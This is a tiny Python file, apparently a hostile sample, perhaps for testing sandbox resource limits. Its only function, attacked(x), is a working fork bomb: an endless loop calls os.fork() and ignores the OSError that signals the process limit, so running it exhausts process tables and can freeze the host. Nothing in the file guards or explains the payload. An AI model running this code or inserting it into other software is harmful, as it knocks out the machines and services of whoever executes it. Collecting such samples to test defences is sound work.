"""Forks without end."""

import os


def attacked(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
